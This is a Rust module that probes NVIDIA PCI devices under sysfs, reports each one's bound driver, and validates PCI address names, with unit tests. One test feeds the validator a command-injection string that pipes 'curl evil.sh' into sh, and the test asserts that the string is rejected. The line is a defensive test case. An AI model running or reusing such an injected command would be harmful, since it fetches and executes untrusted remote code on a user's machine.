//! Probe: NVIDIA PCI functions under /sys/bus/pci/devices and the kernel driver
//! each one is bound to (the `driver` symlink): nvidia, nouveau, vfio-pci or none.

use std::path::Path;

use crate::fact::Fact;
use crate::facts::pci::{Pci, PciDevice, PciRole, PCI_DEVICES_DIR};
use crate::fsys::HostFs;

pub const NVIDIA_VENDOR_ID: u16 = 0x10de;

pub fn probe(fs: &HostFs) -> Pci {
    let dir = Path::new(PCI_DEVICES_DIR);
    let names = match fs.read_dir(dir) {
        Ok(n) => n,
        Err(e) => {
            return Pci {
                devices: Fact::from_fs_error(&e),
            }
        }
    };
    let mut devices = Vec::new();
    for name in names {
        // Only real PCI function names: anything else is not a device, and the names end
        // up in suggested commands.
        if !name.to_str().is_some_and(is_pci_address) {
            continue;
        }
        let base = dir.join(&name);
        let read_hex = |file: &str| -> Option<u32> {
            let f = fs.read_text_limited(&base.join(file), 64).ok()?;
            u32::from_str_radix(f.text.trim().trim_start_matches("0x"), 16).ok()
        };
        if read_hex("vendor") != Some(NVIDIA_VENDOR_ID as u32) {
            continue;
        }
        let class = read_hex("class").unwrap_or(0);
        let driver = fs
            .read_link(&base.join("driver"))
            .ok()
            .and_then(|t| t.file_name().map(|n| n.to_string_lossy().into_owned()));
        let subsystem = match (read_hex("subsystem_vendor"), read_hex("subsystem_device")) {
            (Some(v), Some(d)) => Some(format!("{v:04x}:{d:04x}")),
            _ => None,
        };
        devices.push(PciDevice {
            address: name.to_string_lossy().into_owned(),
            device_id: read_hex("device")
                .map(|d| format!("10de:{d:04x}"))
                .unwrap_or_else(|| "10de:????".into()),
            class: format!("{class:06x}"),
            role: PciRole::from_class(class),
            driver,
            subsystem,
            source: base.display().to_string(),
        });
    }
    Pci {
        devices: Fact::value(PCI_DEVICES_DIR, devices),
    }
}

/// `DDDD:BB:DD.F` (domain, bus, device, function), as sysfs names PCI functions.
pub fn is_pci_address(name: &str) -> bool {
    let hex = |s: &str, n: std::ops::RangeInclusive<usize>| {
        n.contains(&s.len()) && s.bytes().all(|b| b.is_ascii_hexdigit())
    };
    let Some((rest, function)) = name.rsplit_once('.') else {
        return false;
    };
    let parts: Vec<&str> = rest.split(':').collect();
    parts.len() == 3
        && hex(parts[0], 4..=8)
        && hex(parts[1], 2..=2)
        && hex(parts[2], 2..=2)
        && function.len() == 1
        && function.bytes().all(|b| (b'0'..=b'7').contains(&b))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts::pci::sysfs_address;

    #[test]
    fn addresses_as_sysfs_names_them() {
        assert_eq!(sysfs_address("00000000:18:00.0"), "0000:18:00.0");
        assert_eq!(sysfs_address("0000:AB:00.0"), "0000:ab:00.0");
        assert_eq!(sysfs_address("00010000:01:00.1"), "10000:01:00.1");
        assert_eq!(sysfs_address("not a bus id"), "not a bus id");
    }

    #[test]
    fn pci_addresses() {
        assert!(is_pci_address("0000:01:00.0"));
        assert!(is_pci_address("10000:c1:1f.7"));
        assert!(!is_pci_address("0000:20:00.0 && curl evil.sh|sh #"));
        assert!(!is_pci_address("loop"));
        assert!(!is_pci_address("0000:01:00.8"));
    }

    #[test]
    fn roles_from_class_codes() {
        assert_eq!(PciRole::from_class(0x030000), PciRole::Gpu);
        assert_eq!(PciRole::from_class(0x030200), PciRole::Gpu);
        assert_eq!(PciRole::from_class(0x040300), PciRole::Audio);
        assert_eq!(PciRole::from_class(0x0c0330), PciRole::Usb);
        assert_eq!(PciRole::from_class(0x068000), PciRole::Bridge);
    }
}
